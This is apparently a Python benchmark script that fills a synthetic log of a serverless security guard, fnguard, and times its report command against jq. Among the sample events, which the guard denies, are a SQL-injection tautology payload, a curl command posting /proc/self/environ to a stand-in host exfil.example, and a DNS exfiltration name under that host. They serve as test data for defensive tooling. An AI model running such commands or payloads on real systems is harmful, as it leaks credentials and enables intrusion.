#!/usr/bin/python3
"""`fnguard report` throughput, as a Markdown table.

One million generated log lines of the shapes fnguard writes (exec, dns,
connect, code, invoke with payloads, response, exit; allowed lines
included, as with log.allowed), in one file. The reference is jq over the
same file: `jq -c 'select(.action!="allow")' FILE | wc -l`, the usual way
to pull violations out of a log. Best of BENCH_REPORT_RUNS (default 3).

Environment: FNGUARD, BENCH_REPORT_LINES (1000000), BENCH_REPORT_RUNS.
"""
import json
import os
import random
import shutil
import subprocess
import tempfile
import time

FNGUARD = os.environ.get("FNGUARD", "build/fnguard")
LINES = int(os.environ.get("BENCH_REPORT_LINES", "1000000"))
RUNS = int(os.environ.get("BENCH_REPORT_RUNS", "3"))


def shapes(rng, i):
    fn = f"orders-{i // 5 % 17}"  # a request id belongs to one function
    base = {"ts": f"2026-11-22T{10 + i // 360000 % 12:02d}:{i // 6000 % 60:02d}:"
                  f"{i // 100 % 60:02d}.{i % 1000:03d}Z",
            "function": fn, "pid": 1000 + i % 97, "request_id": f"8f7c-{i // 5:08x}"}
    k = rng.random()
    if k < 0.35:
        return base | {"event": "dns", "action": "allow", "exe": "/var/lang/bin/python3.12",
                       "name": f"dynamodb.{rng.choice(['us-east-1', 'eu-west-1'])}.amazonaws.com",
                       "qtype": "A", "rule": "*.amazonaws.com:443"}
    if k < 0.6:
        return base | {"event": "connect", "action": "allow", "exe": "/var/lang/bin/python3.12",
                       "proto": "tcp", "addr": f"52.94.{i % 256}.{i * 7 % 256}", "port": 443,
                       "domain": "dynamodb.us-east-1.amazonaws.com", "rule": "*.amazonaws.com:443"}
    if k < 0.75:
        return base | {"event": "invoke", "action": "allow", "source": "aws:sns"}
    if k < 0.85:
        return base | {"event": "invoke", "action": rng.choice(["deny", "kill", "audit"]),
                       "attack": "sqli", "json_path": "Records[0].Sns.Message|json.id",
                       "payload": f"1' OR '1'='1' -- {i % 300}", "source": "aws:sns",
                       "rule": "sqli: tautology"}
    if k < 0.9:
        return base | {"event": "exec", "action": "kill", "exe": "/var/lang/bin/python3.12",
                       "path": "/usr/bin/curl", "argv": ["curl", "-d", "@/proc/self/environ",
                                                         "https://exfil.example/x"],
                       "rule": "exec.allow", "reason": "program not in exec.allow"}
    if k < 0.95:
        return base | {"event": "dns", "action": "deny", "exe": "/var/lang/bin/python3.12",
                       "name": f"[REDACTED:AWS_SECRET_ACCESS_KEY].{i % 50}.exfil.example",
                       "qtype": "TXT", "rule": "network.allow",
                       "reason": "name not in network.allow: never sent upstream"}
    if k < 0.98:
        return base | {"event": "code", "action": "deny", "exe": "/var/lang/bin/python3.12",
                       "path": f"/var/task/vendor/pkg{i % 40}/__init__.py", "line": 12,
                       "col": 5, "rule": "py-subprocess",
                       "reason": "code file breaks a rule: refused before it is read"}
    return base | {"event": "exit", "action": "allow", "status": 0, "signal": None,
                   "duration_ms": 812, "counts": {"invoke": {"allow": 40, "deny": 2},
                                                  "dns": {"allow": 90}}}


def generate(path):
    rng = random.Random(8)
    with open(path, "w") as f:
        for i in range(LINES):
            f.write(json.dumps(shapes(rng, i), separators=(",", ":")) + "\n")


def best(argv, shell=False):
    times = []
    for _ in range(RUNS):
        t0 = time.perf_counter()
        p = subprocess.run(argv, shell=shell, stdout=subprocess.DEVNULL,
                           stderr=subprocess.PIPE)
        times.append(time.perf_counter() - t0)
        if p.returncode != 0:
            raise SystemExit(f"bench_report: {argv} exited {p.returncode}: {p.stderr[-500:]}")
    return min(times)


def main():
    with tempfile.TemporaryDirectory() as tmp:
        log = os.path.join(tmp, "fnguard.jsonl")
        generate(log)
        mb = os.path.getsize(log) / 1e6
        print(f"## fnguard report over {LINES} log lines ({mb:.0f} MB), best of {RUNS}\n")
        print("| tool | s | MB/s | vs jq | goal |")
        print("|---|---:|---:|---:|---|")
        jq = shutil.which("jq")
        j = None
        if jq:
            j = best(f"{jq} -c 'select(.action!=\"allow\")' {log} | wc -l", shell=True)
            print(f"| jq -c 'select(.action!=\"allow\")' \\| wc -l | {j:.2f} | {mb / j:.0f} "
                  f"| 1.00× | |")
        for label, argv in (("fnguard report (text)", [FNGUARD, "report", log]),
                            ("fnguard report --json", [FNGUARD, "report", "--json", log]),
                            ("fnguard report --html", [FNGUARD, "report", "--html",
                                                       os.path.join(tmp, "r.html"), log])):
            t = best(argv)
            ratio = f"{j / t:.2f}×" if j else "n/a"
            goal = ("> 1× " + ("✓" if j / t > 1 else "✗")) if j else "jq missing"
            print(f"| {label} | {t:.2f} | {mb / t:.0f} | {ratio} | {goal} |")
        print()


if __name__ == "__main__":
    main()
